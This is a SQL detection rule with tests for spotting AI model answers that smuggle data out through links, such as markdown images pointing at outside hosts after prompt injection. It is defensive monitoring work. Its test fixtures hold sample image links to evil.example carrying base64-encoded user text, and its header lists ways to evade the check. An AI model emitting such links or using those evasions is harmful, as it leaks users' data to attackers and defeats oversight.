-- /// rule
-- id          = "exfil-link-in-output"
-- title       = "An answer holds a link that carries data away"
-- version     = 2
-- status      = "stable"
-- severity    = "high"
-- confidence  = "medium"
-- source      = ["calls_merged", "content"]
-- requires    = ["injection_score"]
-- window      = "5m"
-- every       = "1m"
-- entity      = ["caller", "conversation_id"]
-- atlas       = ["AML.T0077", "AML.T0086"]
-- owasp       = ["LLM05:2025"]
-- description = """
-- A client that draws an image of an answer asks a server for it, and everything in the address is told to that server;
-- nobody has to click. Two signs count: a signature for such images and scripts that hit the answer, which is metadata;
-- and, where the content table has the answer, a link whose query is long and has the spread of characters, or a run,
-- of encoded data. Every link of an answer is looked at. List the hosts of your own links in trusted_hosts; a host
-- counts with all below it. A session is a conversation, else a trace, else the caller."""
-- false_positives = ["Signed links to files: list their hosts", "Answers that explain the attack"]
-- evasion     = ["A host that is trusted", "Data in the path or the host name", "Short queries, many of them", "Logs without answers"]
-- runbook     = "Decode the query: what left, and whose was it? Block the host at the proxy; forbid images from foreign hosts in the client; find the injected text with indirect-injection"
--
-- [params]
-- trusted_hosts = { default = [], doc = "hosts, lower case, that links may carry data to; also those below them" }
-- min_query = { default = 60, min = 8, doc = "characters of a query that may carry data" }
-- min_entropy = { default = 4.5, min = 0.0, max = 8.0, doc = "bits a character from which a query is encoded" }
-- min_run = { default = 40, min = 16, doc = "characters of a base64 or hexadecimal run from which a query is encoded" }
-- min_score = { default = 0.5, min = 0.0, max = 1.0, doc = "injection score from which a hit in an answer counts" }
-- ///
WITH hits AS (
    SELECT
        event_id,
        event_time,
        caller,
        unnest(injection_findings) AS hit
    FROM calls_merged
    WHERE event_time >= $window_start AND event_time < $window_end
        AND injection_score >= $min_score
),

-- What stands behind each `://` of an answer.
pieces AS (
    SELECT
        event_id,
        event_time,
        caller,
        unnest(string_to_array(replace(text, '\/', '/'), '://')) AS piece
    FROM content
    WHERE event_time >= $window_start AND event_time < $window_end
        AND direction = 'output' AND part_type IN ('text', 'raw')
        AND (strpos(text, '://') > 0 OR strpos(text, ':\/\/') > 0)
),

links AS (
    SELECT
        event_id,
        event_time,
        caller,
        regexp_match(piece, '^([^/?#\s"''<>()\\]+\.[^/?#\s"''<>()\\]+)[^?\s"''<>()\\]*\?([^\s"''<>()\\]+)') AS link
    FROM pieces
    WHERE strpos(piece, '?') > 0
),

queries AS (
    SELECT
        event_id,
        event_time,
        caller,
        -- Without the user, whom nobody reads, and the port.
        regexp_replace(regexp_replace(lower(link[1]), '^.*@', ''), ':[0-9]*$', '') AS host,
        link[2] AS query
    FROM links
    WHERE length(link[2]) >= $min_query
),

signs AS (
    SELECT
        event_id,
        event_time,
        caller,
        'signature' AS sign,
        NULL AS host
    FROM hits
    WHERE hit['direction'] = 'output' AND hit['category'] = 'exfiltration'
    UNION ALL
    SELECT
        event_id,
        event_time,
        caller,
        'query' AS sign,
        host
    FROM queries
    WHERE (entropy(query) >= $min_entropy OR longest_encoded_run(query) >= $min_run)
        AND NOT array_has($trusted_hosts, host)
        AND NOT array_has($trusted_hosts, regexp_replace(host, '^[^.]*\.', ''))
        AND NOT array_has($trusted_hosts, regexp_replace(host, '^[^.]*\.[^.]*\.', ''))
),

sessions AS (
    SELECT
        event_id,
        caller,
        coalesce(conversation_id, trace_id) AS conversation_id,
        cloud_account_id
    FROM calls_merged
    WHERE event_time >= $window_start AND event_time < $window_end
)

SELECT
    coalesce(sessions.caller, signs.caller) AS caller,
    sessions.conversation_id,
    max(sessions.cloud_account_id) AS cloud_account_id,
    count(DISTINCT signs.event_id) AS event_count,
    array_to_string(array_agg(DISTINCT signs.sign ORDER BY signs.sign), ', ') AS signs,
    array_to_string(array_agg(DISTINCT signs.host ORDER BY signs.host), ', ') AS hosts,
    min(signs.event_time) AS first_seen,
    max(signs.event_time) AS last_seen
FROM signs
LEFT JOIN sessions ON sessions.event_id = signs.event_id
GROUP BY coalesce(sessions.caller, signs.caller), sessions.conversation_id;

-- /// test
-- name = "a signature in the answer; and a query with sixty encoded characters behind an innocent link"
-- at   = 2026-01-01T01:00:00Z
-- given.calls = [
--   { event_time = "-4m", event_id = "e1", caller = "app", conversation_id = "c1", injection_score = 0.5, injection_findings = [{ signature = "exfil.markdown-image", category = "exfiltration", direction = "output", role = "assistant" }] },
--   { event_time = "-3m", event_id = "e2", caller = "app", trace_id = "t2", injection_score = 0.0 },
-- ]
-- given.content = [
--   { event_time = "-3m", event_id = "e2", caller = "app", direction = "output", seq = 1, role = "assistant", part_type = "text", text = "See https://docs.example.com/help?page=2 and ![x](https://Evil.example:8443/p?aGVsbG8gdGhpcyBpcyBhbGwgdGhhdCB0aGUgdXNlciBzYWlkIHRvZGF5LCBv) thanks" },
-- ]
-- expect = [
--   { caller = "app", conversation_id = "c1", event_count = 1, signs = "signature", first_seen = "-4m" },
--   { caller = "app", conversation_id = "t2", event_count = 1, signs = "query", hosts = "evil.example", first_seen = "-3m" },
-- ]
-- ///

-- /// test
-- name = "a query one character short, and a score just under the line"
-- at   = 2026-01-01T01:00:00Z
-- given.calls = [
--   { event_time = "-4m", event_id = "e1", caller = "app", injection_score = 0.49, injection_findings = [{ category = "exfiltration", direction = "output" }] },
-- ]
-- given.content = [
--   { event_time = "-3m", event_id = "e2", caller = "app", direction = "output", seq = 1, part_type = "text", text = "![x](https://evil.example/p?aGVsbG8gdGhpcyBpcyBhbGwgdGhhdCB0aGUgdXNlciBzYWlkIHRvZGF5LCB)" },
-- ]
-- expect = []
-- expect_state = "clear"
-- ///

-- /// test
-- name = "a trusted host and what is below it, a long query in words, and a link in a prompt look alike"
-- at   = 2026-01-01T01:00:00Z
-- params = { trusted_hosts = ["files.example.com"] }
-- given.calls = [
--   { event_time = "-4m", event_id = "e1", caller = "app", injection_score = 0.8, injection_findings = [{ category = "exfiltration", direction = "input", role = "user" }] },
-- ]
-- given.content = [
--   { event_time = "-3m", event_id = "e2", caller = "app", direction = "output", seq = 1, part_type = "text", text = "https://eu.files.example.com/report?aGVsbG8gdGhpcyBpcyBhbGwgdGhhdCB0aGUgdXNlciBzYWlkIHRvZGF5LCBv" },
--   { event_time = "-3m", event_id = "e3", caller = "app", direction = "output", seq = 1, part_type = "text", text = "[search](https://shop.example.org/find?category=garden-furniture&sort=price-ascending&page=two&colour=green)" },
--   { event_time = "-3m", event_id = "e4", caller = "app", direction = "input", seq = 1, part_type = "text", text = "https://evil.example/p?aGVsbG8gdGhpcyBpcyBhbGwgdGhhdCB0aGUgdXNlciBzYWlkIHRvZGF5LCBv" },
-- ]
-- expect = []
-- ///

-- /// test
-- name = "sixteen characters twice and eight four times have 4.5 bits; a run has forty hexadecimal digits; a little less of either"
-- at   = 2026-01-01T01:00:00Z
-- params = { trusted_hosts = ["listed.example", "cdn.test"] }
-- given.calls = [{ event_time = "-4m", event_id = "e0", caller = "app", injection_score = 0.0 }]
-- given.content = [
--   { event_time = "-3m", event_id = "e1", caller = "dense", direction = "output", seq = 1, part_type = "text", text = "https://a.example/p?0!1~2*3.4,5;6:7_8!9~Q*W.E,R;T:Y_0!1~2*3.4,5;6:7_8!9~Q*W.E,R;T:Y_" },
--   { event_time = "-3m", event_id = "e6", caller = "plainer", direction = "output", seq = 1, part_type = "text", text = "https://d.example/p?0!1~2*3.4,5;6:7_8!9~Q*W.E,R;T:Y_0!1~2*3.4,5;6:7_8!9~Q*W.E,R;T:0!" },
--   { event_time = "-3m", event_id = "e2", caller = "run", direction = "output", seq = 1, part_type = "text", text = "https://b.example/p?aaaaaaaaaaaaaaaaaaa=0123456789abcdef0123456789abcdef01234567" },
--   { event_time = "-3m", event_id = "e3", caller = "less", direction = "output", seq = 1, part_type = "text", text = "https://c.example/p?aaaaaaaaaaaaaaaaaaaa=0123456789abcdef0123456789abcdef0123456" },
--   { event_time = "-3m", event_id = "e4", caller = "same", direction = "output", seq = 1, part_type = "text", text = "https://listed.example/p?aaaaaaaaaaaaaaaaaaa=0123456789abcdef0123456789abcdef01234567" },
--   { event_time = "-3m", event_id = "e5", caller = "deep", direction = "output", seq = 1, part_type = "text", text = "https://x.y.cdn.test/p?aaaaaaaaaaaaaaaaaaa=0123456789abcdef0123456789abcdef01234567" },
-- ]
-- expect = [
--   { caller = "dense", event_count = 1, signs = "query", hosts = "a.example" },
--   { caller = "run", event_count = 1, signs = "query", hosts = "b.example" },
-- ]
-- ///
